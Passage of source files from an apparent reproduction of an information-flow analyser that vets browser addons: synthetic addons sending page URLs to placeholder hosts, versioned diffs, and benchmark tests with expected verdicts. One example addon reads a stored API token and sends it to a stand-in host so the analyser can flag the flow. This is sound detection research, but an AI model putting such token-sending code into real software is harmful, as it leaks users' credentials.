  req.open("GET", STATS_BASE + "/mail?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-mail");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_mail, false);

function widget_feed(e) {
  var url = content.location.href;
  var marker = url.indexOf("feed");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/feed?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-feed");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_feed, false);

function widget_notes(e) {
  var url = content.location.href;
  var marker = url.indexOf("notes");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/notes?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-notes");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_notes, false);

function widget_search(e) {
  var url = content.location.href;
  var marker = url.indexOf("search");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/search?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-search");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_search, false);

function widget_timer(e) {
  var url = content.location.href;
  var marker = url.indexOf("timer");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/timer?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-timer");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_timer, false);
