// Dashboard: per-site widgets behind one stats API. Every widget reads
// the page URL (a browser source), asks the stats service for its
// slice (a network sink), and renders the response into its toolbar
// badge. The signature is deliberately non-trivial: vetting this addon
// must run the interpreter and find one network flow per widget.
var STATS_BASE = "https://stats.example/api/widget";
var REFRESH_LIMIT = 8;
var refreshCount = 0;

function underRefreshLimit() {
  var allowed = refreshCount < REFRESH_LIMIT;
  if (allowed) {
    refreshCount = refreshCount + 1;
  }
  return allowed;
}

function widget_clock(e) {
  var url = content.location.href;
  var marker = url.indexOf("clock");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/clock?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-clock");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_clock, false);

function widget_weather(e) {
  var url = content.location.href;
  var marker = url.indexOf("weather");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/weather?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-weather");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_weather, false);

function widget_stocks(e) {
  var url = content.location.href;
  var marker = url.indexOf("stocks");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/stocks?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-stocks");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_stocks, false);

function widget_mail(e) {
  var url = content.location.href;
  var marker = url.indexOf("mail");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/mail?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-mail");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_mail, false);

function widget_feed(e) {
  var url = content.location.href;
  var marker = url.indexOf("feed");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/feed?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-feed");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_feed, false);

function widget_notes(e) {
  var url = content.location.href;
  var marker = url.indexOf("notes");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/notes?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-notes");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_notes, false);

function widget_search(e) {
  var url = content.location.href;
  var marker = url.indexOf("search");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/search?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-search");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_search, false);

function widget_timer(e) {
  var url = content.location.href;
  var marker = url.indexOf("timer");
  if (marker == -1) {
    return;
  }
  if (!underRefreshLimit()) {
    return;
  }
  var req = new XMLHttpRequest();
  req.open("GET", STATS_BASE + "/timer?u=" + encodeURIComponent(url), true);
  req.onreadystatechange = function () {
    if (req.readyState == 4 && req.status == 200) {
      var badge = document.getElementById("badge-timer");
      if (badge) {
        badge.textContent = req.responseText;
      }
    }
  };
  req.send(null);
}
window.addEventListener("load", widget_timer, false);
