// Reports anonymous usage counters to the vendor endpoint. The
// endpoint choice between two same-vendor hosts is decided by a
// preference the analysis cannot resolve, so the inferred send()
// domain is the common prefix of the two URLs.
var endpoint = externalPrefs.get("devChannel")
  ? "http://stats-dev.example.net/v1"
  : "http://stats.example.com/v1";

function sendCounters(payload) {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", endpoint + "/counters");
  xhr.send(payload);
}

sendCounters("clicks=3");
