// Reports anonymous usage counters to the vendor endpoint.
//
// v2: the fallback endpoint moves to a different vendor entirely. The
// two hosts now share almost no prefix, so the inferred send() domain
// widens in the prefix lattice — the approved review no longer covers
// the claim: widened, re-review.
var endpoint = externalPrefs.get("devChannel")
  ? "http://collect.othermetrics.org/v1"
  : "http://stats.example.com/v1";

function sendCounters(payload) {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", endpoint + "/counters");
  xhr.send(payload);
}

sendCounters("clicks=3");
