// Sends the current page address to a ranking service. The mirror is
// chosen from a preference the analysis cannot resolve, so the
// inferred domain collapses to the common prefix of the two hosts.
var target = externalPrefs.get("mirror")
  ? "http://rank-a.example.com/q"
  : "http://rank-b.example.net/q";
var query = content.location.href;
var xhr = new XMLHttpRequest();
xhr.open("GET", target + "?u=" + query);
xhr.send(query);
