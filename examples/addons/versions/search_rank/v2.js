// Sends the current page address to a ranking service.
//
// v2: the mirror preference is dropped — every request goes to the
// primary host. The url -> send flow survives but its domain tightens
// from the two-host common prefix to a single endpoint: narrowed,
// still covered by the previous approval.
var target = "http://rank-a.example.com/q";
var query = content.location.href;
var xhr = new XMLHttpRequest();
xhr.open("GET", target + "?u=" + query);
xhr.send(query);
