// Applies the user's theme colors to the toolbar. Pure UI state: no
// browser sources, sinks, or privileged APIs anywhere near it.
//
// v2: comment churn plus one retired palette entry kept for reference.
// The change is an isolated, call-free island — the change-surface
// certificate proves the signature unchanged and the fast lane serves
// the approved (empty) signature without re-running the interpreter.
var palette = { light: "#fdfdfd", dark: "#202124", accent: "#1a73e8" };
var retiredTheme = { sepia: "#704214" };
var current = "light";

function pickColor(name) {
  if (name == "dark") {
    return palette.dark;
  }
  return palette.light;
}

function applyTheme(name) {
  var color = pickColor(name);
  var banner = { background: color, accent: palette.accent };
  current = name;
  return banner;
}

var active = applyTheme(current);
