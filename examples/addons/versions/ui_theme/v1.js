// Applies the user's theme colors to the toolbar. Pure UI state: no
// browser sources, sinks, or privileged APIs anywhere near it — the
// relevance prefilter proves it trivially safe without the interpreter.
var palette = { light: "#fdfdfd", dark: "#202124", accent: "#1a73e8" };
var current = "light";

function pickColor(name) {
  if (name == "dark") {
    return palette.dark;
  }
  return palette.light;
}

function applyTheme(name) {
  var color = pickColor(name);
  var banner = { background: color, accent: palette.accent };
  current = name;
  return banner;
}

var active = applyTheme(current);
