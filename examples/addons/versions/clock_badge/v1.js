// Renders a toolbar badge with the current time. Arithmetic and string
// formatting only — another addon the prefilter sends straight to the
// trivially-empty signature.
var ticks = 0;

function pad(value) {
  if (value < 10) {
    return "0" + value;
  }
  return "" + value;
}

function renderBadge(hours, minutes) {
  var label = pad(hours) + ":" + pad(minutes);
  ticks = ticks + 1;
  return { text: label, count: ticks };
}

var badge = renderBadge(9, 30);
