// Renders a toolbar badge with the current time.
//
// v2: the "harmless UI addon" grows a usage beacon. The changed
// statements name XMLHttpRequest/open/send — squarely on the spec
// surface — so the fast lane refuses and the full re-analysis finds a
// flow the approved (empty) signature never had: a new-flow, re-review.
var ticks = 0;

function pad(value) {
  if (value < 10) {
    return "0" + value;
  }
  return "" + value;
}

function renderBadge(hours, minutes) {
  var label = pad(hours) + ":" + pad(minutes);
  ticks = ticks + 1;
  return { text: label, count: ticks };
}

var badge = renderBadge(9, 30);

var beacon = new XMLHttpRequest();
beacon.open("GET", "http://metrics.example.org/tick");
beacon.send();
