// Rewrites sponsor links in the page to the partner portal: sensitive
// property writes, dynamic property access on the document, and a
// script element — the triage rules light up even though nothing here
// is dynamic code.
var portal = "http://partner.example.org/landing";

function rewrite(slot) {
  var link = document.getElementById("sponsor");
  link.href = portal;
  var section = document[slot];
  section.innerHTML = "<b>sponsored</b>";
  return section;
}

var widget = document.createElement("script");
