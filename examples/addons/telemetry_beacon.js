// Reports anonymous usage counters to the vendor endpoint. The
// endpoint choice between two unrelated hosts is exactly the pattern
// the prefix string domain cannot keep precise (JS007).
var endpoint = window.debugMode
  ? "http://stats-dev.example.net/v1"
  : "http://stats.example.com/v1";

function sendCounters(payload) {
  var xhr = new XMLHttpRequest();
  xhr.open("POST", endpoint + "/counters");
  xhr.send(payload);
}

sendCounters("clicks=3");
