"""Configuring the analysis: custom sources/sinks and a custom flow-type
lattice.

The paper stresses that both the "interesting things" specification and
the flow-type lattice are configurable ("they are easily configurable if
desired"; "the lattice is independently configurable"). This example:

1. adds a *custom source* — the addon's own settings object, treated as
   confidential;
2. re-ranks the lattice for a vetter who considers amplified implicit
   flows the most dangerous kind (they can exfiltrate arbitrary data one
   bit at a time);
3. shows how the same addon's signature reads under each configuration.

Run: ``python examples/custom_policy.py``
"""

from repro.api import analyze_addon, build_addon_pdg
from repro.browser import mozilla_spec
from repro.pdg.annotations import Annotation
from repro.signatures import (
    CallSource,
    FlowType,
    FlowTypeLattice,
    infer_signature,
)

ADDON = """
var SYNC_API = "https://sync.example/push?blob=";

function syncSettings() {
    // The user's API token lives in the preferences store.
    var token = Services.prefs.getCharPref("extensions.myaddon.token");
    var req = new XMLHttpRequest();
    req.open("GET", SYNC_API + encodeURIComponent(token), true);
    req.send(null);
}

window.addEventListener("load", function (e) {
    if (content.location.href != "about:blank") {
        syncSettings();
    }
}, false);
"""


def main() -> None:
    program, result = analyze_addon(ADDON)
    pdg = build_addon_pdg(result)

    # --- 1. default Mozilla spec: prefs are not a source -------------
    default_spec = mozilla_spec()
    default_detail = infer_signature(result, pdg, default_spec)
    print("Default spec (prefs not interesting):")
    for entry in default_detail.signature:
        print(f"  {entry.render()}")

    # --- 2. custom spec: treat preference reads as a source ----------
    # Reading the method object is not the source; *calling* it is, so a
    # CallSource keyed on the stub's native tag is the right matcher.
    custom_spec = mozilla_spec()
    custom_spec.sources.append(
        CallSource("prefs", frozenset({"prefs.getCharPref"}))
    )
    custom_detail = infer_signature(result, pdg, custom_spec)
    print()
    print("Custom spec (preference reads are confidential):")
    for entry in custom_detail.signature:
        print(f"  {entry.render()}")

    # --- 3. custom lattice: implicit-amplified flows strongest -------
    paranoid = FlowTypeLattice(
        structure={
            FlowType.TYPE1: (0, Annotation.NONLOC_IMP_AMP),
            FlowType.TYPE2: (1, Annotation.LOCAL_AMP),
            FlowType.TYPE3: (1, Annotation.NONLOC_EXP_AMP),
            FlowType.TYPE4: (2, Annotation.DATA_STRONG),
            FlowType.TYPE5: (3, Annotation.DATA_WEAK),
            FlowType.TYPE6: (4, Annotation.LOCAL),
            FlowType.TYPE7: (5, Annotation.NONLOC_EXP),
            FlowType.TYPE8: (6, Annotation.NONLOC_IMP),
        }
    )
    paranoid_detail = infer_signature(result, pdg, custom_spec, lattice=paranoid)
    print()
    print("Same spec under the covert-channel-first lattice:")
    for entry in paranoid_detail.signature:
        print(f"  {entry.render()}")
    print()
    print(
        "Under the default lattice the url flow ranks by its data/control\n"
        "strength; under the re-ranked lattice, amplified implicit flows\n"
        "surface as the strongest types instead."
    )


if __name__ == "__main__":
    main()
