"""Thin setup.py shim so `pip install -e . --no-use-pep517` works offline
(the sandbox has setuptools but not `wheel`, which PEP 517 editable
installs require). All metadata lives in pyproject.toml."""

from setuptools import setup

setup()
