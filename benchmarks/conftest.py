"""Shared fixtures for the benchmark harness."""

import pytest

from repro.addons import CORPUS


def pytest_configure(config):
    config.addinivalue_line(
        "markers", "table(name): which paper table/figure a benchmark regenerates"
    )


@pytest.fixture(params=CORPUS, ids=[spec.name for spec in CORPUS])
def addon_spec(request):
    """One benchmark addon per parametrization."""
    return request.param
