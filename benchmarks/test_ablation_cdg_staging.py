"""Ablation: the staged CDG construction vs an unclassified CDG.

Section 3.3 builds the CDG in four stages precisely so control edges can
be *classified* (local / nonlocexp / nonlocimp, ±amp). This ablation
degrades the PDG as a single-pass construction would — every control
edge gets the weakest classification (nonlocimp, amplification kept) —
and re-runs signature inference. The flow types collapse toward
type7/type8, destroying the distinctions the vetter relies on (e.g.
HyperTranslate's intended type3 becomes type7).
"""

import pytest

from repro.addons import BY_NAME
from repro.api import analyze_addon, build_addon_pdg
from repro.browser import mozilla_spec
from repro.pdg.annotations import Annotation
from repro.pdg.graph import PDG
from repro.signatures import FlowType, infer_signature


def degrade_control_edges(pdg: PDG) -> PDG:
    """What a single-pass CDG gives you: control dependence with no
    provenance — everything might be an implicit-exception edge."""
    degraded = PDG(program=pdg.program, cyclic=set(pdg.cyclic))
    for (source, target), annotations in pdg.edges.items():
        for annotation in annotations:
            if not annotation.is_control:
                degraded.add_edge(source, target, annotation)
            elif annotation.is_amplified:
                degraded.add_edge(source, target, Annotation.NONLOC_IMP_AMP)
            else:
                degraded.add_edge(source, target, Annotation.NONLOC_IMP)
    return degraded


def run_both(name):
    spec = BY_NAME[name]
    program, result = analyze_addon(spec.source())
    pdg = build_addon_pdg(result)
    security = mozilla_spec()
    staged = infer_signature(result, pdg, security).signature
    degraded = infer_signature(
        result, degrade_control_edges(pdg), security
    ).signature
    return staged, degraded


@pytest.mark.table("ablation-cdg-staging")
def test_staging_preserves_hypertranslate_type3(benchmark):
    staged, degraded = benchmark.pedantic(
        run_both, args=("HyperTranslate",), rounds=1, iterations=1
    )
    assert {e.flow_type for e in staged.flows} == {FlowType.TYPE3}
    # Without staging, the same flow is indistinguishable from an
    # implicit-exception channel.
    assert {e.flow_type for e in degraded.flows} == {FlowType.TYPE7}


@pytest.mark.table("ablation-cdg-staging")
def test_staging_irrelevant_for_pure_data_flows(benchmark):
    staged, degraded = benchmark.pedantic(
        run_both, args=("LivePagerank",), rounds=1, iterations=1
    )
    # type1 flows ride only data edges: classification of control edges
    # cannot affect them.
    assert staged.flows == degraded.flows


@pytest.mark.table("ablation-cdg-staging")
def test_staging_separates_transliterate_from_worst_case(benchmark):
    staged, degraded = benchmark.pedantic(
        run_both, args=("GoogleTransliterate",), rounds=1, iterations=1
    )
    staged_types = {e.flow_type for e in staged.flows}
    degraded_types = {e.flow_type for e in degraded.flows}
    assert staged_types == {FlowType.TYPE5}
    assert degraded_types == {FlowType.TYPE7}
