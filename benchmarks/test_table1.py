"""Benchmark regenerating Table 1 (the benchmark-suite table).

Times the frontend (parse + AST node count) over the whole corpus and
checks the table's content: categories and the size metric.
"""

import pytest

from repro.addons import CORPUS
from repro.evaluation import compute_table1, render_table1
from repro.js import node_count, parse


@pytest.mark.table("table1")
def test_table1_frontend(benchmark):
    rows = benchmark(compute_table1)
    assert len(rows) == 10
    # Size sanity: every synthetic addon is a real program, and the
    # largest-vs-smallest spread is preserved from the paper (oDesk is
    # the smallest addon in both).
    sizes = {row.spec.name: row.measured_ast_nodes for row in rows}
    assert min(sizes.values()) == sizes["oDeskJobWatcher"]
    print()
    print(render_table1(rows))


@pytest.mark.table("table1")
@pytest.mark.parametrize("spec", CORPUS, ids=[s.name for s in CORPUS])
def test_table1_per_addon_parse(benchmark, spec):
    source = spec.source()
    tree = benchmark(parse, source)
    assert node_count(tree) > 50
