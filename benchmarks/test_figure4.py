"""Benchmark regenerating Figure 4 (the flow-type lattice): exercises
the extend/max operations over the whole lattice and checks the paper's
worked examples."""

import pytest

from repro.pdg.annotations import Annotation
from repro.signatures.flowtypes import DEFAULT_LATTICE, FlowType


def exercise_lattice():
    lattice = DEFAULT_LATTICE
    results = {}
    for flow_type in FlowType:
        for annotation in Annotation:
            results[(flow_type, annotation)] = lattice.extend(flow_type, annotation)
    antichain = lattice.max(set(FlowType))
    return results, antichain


@pytest.mark.table("figure4")
def test_figure4_lattice_operations(benchmark):
    results, antichain = benchmark(exercise_lattice)
    # The paper's worked examples:
    assert results[(FlowType.TYPE4, Annotation.NONLOC_EXP_AMP)] is FlowType.TYPE6
    assert results[(FlowType.TYPE3, Annotation.NONLOC_EXP_AMP)] is FlowType.TYPE5
    assert antichain == {FlowType.TYPE1}
