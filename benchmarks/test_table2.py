"""Benchmarks regenerating Table 2 (results + per-phase timings).

One benchmark per addon per phase (P1 base analysis, P2 PDG
construction, P3 signature inference), mirroring the paper's per-phase
columns, plus a verdict check per addon against the paper's
pass/fail/leak row.
"""

import pytest

from repro.addons import CORPUS, vet_addon
from repro.analysis import analyze
from repro.browser import BrowserEnvironment, mozilla_spec
from repro.ir import lower
from repro.js import parse
from repro.pdg import build_pdg
from repro.signatures import infer_signature

_IDS = [spec.name for spec in CORPUS]


@pytest.mark.table("table2")
@pytest.mark.parametrize("spec", CORPUS, ids=_IDS)
def test_phase1_base_analysis(benchmark, spec):
    source = spec.source()

    def phase1():
        program = lower(parse(source), event_loop=True)
        return analyze(program, BrowserEnvironment())

    result = benchmark.pedantic(phase1, rounds=3, iterations=1, warmup_rounds=1)
    assert result.states


@pytest.mark.table("table2")
@pytest.mark.parametrize("spec", CORPUS, ids=_IDS)
def test_phase2_pdg_construction(benchmark, spec):
    program = lower(parse(spec.source()), event_loop=True)
    result = analyze(program, BrowserEnvironment())
    pdg = benchmark.pedantic(
        build_pdg, args=(result,), rounds=3, iterations=1, warmup_rounds=1
    )
    assert pdg.edges


@pytest.mark.table("table2")
@pytest.mark.parametrize("spec", CORPUS, ids=_IDS)
def test_phase3_signature_inference(benchmark, spec):
    program = lower(parse(spec.source()), event_loop=True)
    result = analyze(program, BrowserEnvironment())
    pdg = build_pdg(result)
    security_spec = mozilla_spec()
    detail = benchmark.pedantic(
        infer_signature, args=(result, pdg, security_spec),
        rounds=5, iterations=1, warmup_rounds=1,
    )
    assert len(detail.signature) >= 1


@pytest.mark.table("table2")
@pytest.mark.parametrize("spec", CORPUS, ids=_IDS)
def test_verdict_matches_paper(benchmark, spec):
    report = benchmark.pedantic(
        vet_addon, args=(spec,), rounds=1, iterations=1
    )
    assert report.comparison.verdict.value == spec.expected_verdict
