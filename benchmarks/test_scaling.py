"""Scalability: pipeline time vs addon size.

The paper's practicality claim is "analysis time is reasonable" on
addons up to ~4k AST nodes. This benchmark sweeps synthetic addons well
past that — up to 128 independent handlers, ~12k AST nodes — in two
shapes (the flat corpus shape and an adversarial nested-loop callback
chain; see :mod:`repro.evaluation.scaling`, which owns the synthesizers
and the ``BENCH_scaling.json`` emitter) and records the full pipeline
time per size, giving the scaling curve our EXPERIMENTS.md reports.
"""

import pytest

from repro.api import vet
from repro.evaluation.scaling import (
    expected_flows,
    synthesize_chain,
    synthesize_flat,
)
from repro.js import node_count, parse

#: Backward-compatible name: the flat shape was born in this file.
synthesize_addon = synthesize_flat


@pytest.mark.table("scaling")
@pytest.mark.parametrize(
    "handlers", [1, 2, 4, 8, 32, 128], ids=lambda n: f"{n}-features"
)
def test_pipeline_scaling(benchmark, handlers):
    source = synthesize_flat(handlers)
    size = node_count(parse(source))
    report = benchmark.pedantic(vet, args=(source,), rounds=2, iterations=1)
    # Every feature's flow is found, regardless of scale.
    assert len(report.signature.flows) == expected_flows("flat", handlers)
    benchmark.extra_info["ast_nodes"] = size


@pytest.mark.table("scaling")
@pytest.mark.parametrize(
    "stages", [2, 8, 32, 128], ids=lambda n: f"{n}-stages"
)
def test_pipeline_scaling_chain(benchmark, stages):
    source = synthesize_chain(stages)
    size = node_count(parse(source))
    report = benchmark.pedantic(vet, args=(source,), rounds=2, iterations=1)
    # The chain funnels into exactly one network flow at the last stage.
    assert len(report.signature.flows) == expected_flows("chain", stages)
    benchmark.extra_info["ast_nodes"] = size
