"""Scalability: pipeline time vs addon size.

The paper's practicality claim is "analysis time is reasonable" on
addons up to ~4k AST nodes. This benchmark sweeps synthetic addons of
growing size (event handler + per-page URL check + network send,
repeated N times — the dominant corpus shape) and records the full
pipeline time per size, giving the scaling curve our EXPERIMENTS.md
reports.
"""

import pytest

from repro.api import vet
from repro.js import node_count, parse


def synthesize_addon(handlers: int) -> str:
    """A realistic addon with the given number of independent features."""
    chunks = [
        "var BASE = \"https://api.example/feature\";",
    ]
    for index in range(handlers):
        chunks.append(
            f"""
function feature{index}(e) {{
    var url = content.location.href;
    var marker = url.indexOf("site{index}");
    if (marker == -1) {{
        return;
    }}
    var req = new XMLHttpRequest();
    req.open("GET", BASE + "{index}?u=" + encodeURIComponent(url), true);
    req.onreadystatechange = function () {{
        if (req.readyState == 4 && req.status == 200) {{
            var label = document.getElementById("label{index}");
            if (label) {{
                label.textContent = req.responseText;
            }}
        }}
    }};
    req.send(null);
}}
window.addEventListener("load", feature{index}, false);
"""
        )
    return "\n".join(chunks)


@pytest.mark.table("scaling")
@pytest.mark.parametrize("handlers", [1, 2, 4, 8], ids=lambda n: f"{n}-features")
def test_pipeline_scaling(benchmark, handlers):
    source = synthesize_addon(handlers)
    size = node_count(parse(source))
    report = benchmark.pedantic(vet, args=(source,), rounds=2, iterations=1)
    # Every feature's flow is found, regardless of scale.
    assert len(report.signature.flows) == handlers
    benchmark.extra_info["ast_nodes"] = size
