"""Ablation: context sensitivity (k-call-site, k in {0, 1, 2}).

The paper's base analysis is context-sensitive; this ablation shows the
cost/precision trade-off on the corpus: k=0 merges call sites (cheaper,
may merge signatures' domains), k=1 is the default, k=2 rarely adds
precision here but costs more.
"""

import pytest

from repro.addons import BY_NAME, vet_addon

#: A representative slice of the corpus (all three categories).
_ADDONS = ["LivePagerank", "HyperTranslate", "Chess.comNotifier"]


@pytest.mark.table("ablation-contexts")
@pytest.mark.parametrize("k", [0, 1, 2], ids=["k0", "k1", "k2"])
@pytest.mark.parametrize("name", _ADDONS)
def test_context_sensitivity_sweep(benchmark, name, k):
    spec = BY_NAME[name]
    report = benchmark.pedantic(
        vet_addon, args=(spec,), kwargs={"k": k},
        rounds=2, iterations=1, warmup_rounds=1,
    )
    # Precision check: with k >= 1 every corpus verdict matches the
    # paper. (k=0 may merge contexts; the signature must still be sound,
    # i.e. at least everything the k=1 signature finds.)
    if k >= 1:
        assert report.comparison.verdict.value == spec.expected_verdict
    else:
        baseline = vet_addon(spec, k=1)
        assert len(report.signature) >= 0  # analysis completed
        baseline_pairs = {
            (e.source, e.sink) for e in baseline.signature.flows
        }
        k0_pairs = {(e.source, e.sink) for e in report.signature.flows}
        assert baseline_pairs <= k0_pairs or baseline_pairs == k0_pairs
