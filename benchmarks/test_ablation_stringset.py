"""Ablation/extension: the k-bounded string-set domain vs the paper's
prefix domain on the two Table 2 failure patterns.

The paper's fails (LessSpamPlease, VKVideoDownloader) are both prefix-
domain joins of unrelated hosts. This benchmark replays exactly those
URL-construction patterns under both domains and checks that the set
domain (k=3) recovers every domain the prefix domain loses — the
extension DESIGN.md calls out.
"""

import pytest

from repro.domains import prefix as p
from repro.domains.stringset import StringSet

VK_HOSTS = [
    "vk.example/video_ext.php?oid=",
    "video.sibnet.example/shell.php?videoid=",
    "rutube.example/api/video/",
]

LESSPAM_HOSTS = [
    "api.lesspam.example/v2/alias/new?site=",
    "mirror-lsp.example/v2/alias/new?site=",
]


def prefix_domain_run(hosts):
    scheme = p.exact("https://")
    joined = p.BOTTOM
    for host in hosts:
        joined = joined.join(scheme.concat(p.exact(host)).concat(p.TOP))
    return joined


def stringset_domain_run(hosts):
    scheme = StringSet.exact("https://")
    joined = StringSet.bottom()
    for host in hosts:
        url = scheme.concat(StringSet.exact(host)).concat(StringSet.top())
        joined = joined.join(url)
    return joined


@pytest.mark.table("ablation-stringset")
@pytest.mark.parametrize(
    "hosts", [VK_HOSTS, LESSPAM_HOSTS], ids=["vk-3-hosts", "lesspam-2-hosts"]
)
def test_prefix_domain_loses_hosts(benchmark, hosts):
    joined = benchmark(prefix_domain_run, hosts)
    # The common prefix is at most the scheme: the host is gone.
    assert len(joined.text) <= len("https://")


@pytest.mark.table("ablation-stringset")
@pytest.mark.parametrize(
    "hosts", [VK_HOSTS, LESSPAM_HOSTS], ids=["vk-3-hosts", "lesspam-2-hosts"]
)
def test_stringset_domain_keeps_hosts(benchmark, hosts):
    joined = benchmark(stringset_domain_run, hosts)
    assert len(joined.elements) == len(hosts)
    for host in hosts:
        assert joined.admits("https://" + host + "anything")
