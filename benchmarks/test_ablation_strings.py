"""Ablation: prefix string domain vs plain constant strings (Section 5).

The paper motivates the prefix domain by showing a constant string
analysis "is insufficient to determine many of these strings". This
ablation runs the corpus under both domains and counts how many addons
get a *usable* network domain (a prefix of at least scheme+host length),
reproducing the paper's claim that the prefix analysis recovers the
domain for 8 of the 10 addons while constants alone lose most of them.
"""

import pytest

from repro.addons import CORPUS, vet_addon
from repro.domains.prefix import constant_string_mode

#: Minimum inferred-domain length that still identifies a host — longer
#: than any bare scheme ("https://" is 8).
_USABLE_DOMAIN_LENGTH = 12


def _usable_domains(reports):
    usable = 0
    for report in reports:
        domains = [
            entry.domain
            for entry in report.signature.entries
            if getattr(entry, "domain", None) is not None
        ]
        if domains and all(
            domain.text is not None and len(domain.text) >= _USABLE_DOMAIN_LENGTH
            for domain in domains
        ):
            usable += 1
    return usable


def run_corpus():
    return [vet_addon(spec) for spec in CORPUS]


@pytest.mark.table("ablation-strings")
def test_prefix_domain_recovers_domains(benchmark):
    reports = benchmark.pedantic(run_corpus, rounds=1, iterations=1)
    usable = _usable_domains(reports)
    # Paper: "in the remaining eight out of the ten addons, our prefix
    # string analysis can determine the exact domains".
    assert usable == 8


@pytest.mark.table("ablation-strings")
def test_constant_domain_loses_domains(benchmark):
    def run_constant_only():
        with constant_string_mode():
            return [vet_addon(spec) for spec in CORPUS]

    reports = benchmark.pedantic(run_constant_only, rounds=1, iterations=1)
    usable = _usable_domains(reports)
    prefix_usable = 8
    # Constants alone must do strictly worse: any addon that appends
    # anything dynamic to its URL loses the whole domain.
    assert usable < prefix_usable
