"""Benchmark: one end-to-end pipeline run per Figure 4 lattice point.

The flow-type gallery (see tests/signatures/test_flow_type_gallery.py)
is also a benchmark: each row times the full pipeline on the minimal
program exhibiting exactly that flow type, and asserts the
classification — a per-lattice-row regeneration of Figure 4's meaning.
"""

import pytest

from repro.api import infer_signature
from repro.signatures import FlowType

SEND_FIXED = """
var req = new XMLHttpRequest();
req.open("GET", "https://sink.example/ping", true);
req.send(null);
"""

GALLERY = {
    FlowType.TYPE1: (
        """
        var req = new XMLHttpRequest();
        req.open("GET", "https://sink.example/?u=" + content.location.href, true);
        req.send(null);
        """
    ),
    FlowType.TYPE2: (
        """
        var store = {};
        store[someKey()] = content.location.href;
        var req = new XMLHttpRequest();
        req.open("GET", "https://sink.example/?v=" + store[otherKey()], true);
        req.send(null);
        """
    ),
    FlowType.TYPE3: (
        'window.addEventListener("load", function (e) {\n'
        'if (content.location.href == "secret.example") {' + SEND_FIXED + "}\n"
        "}, false);"
    ),
    FlowType.TYPE4: (
        'if (content.location.href == "secret.example") {' + SEND_FIXED + "}"
    ),
    FlowType.TYPE5: (
        'window.addEventListener("load", function (e) {\n'
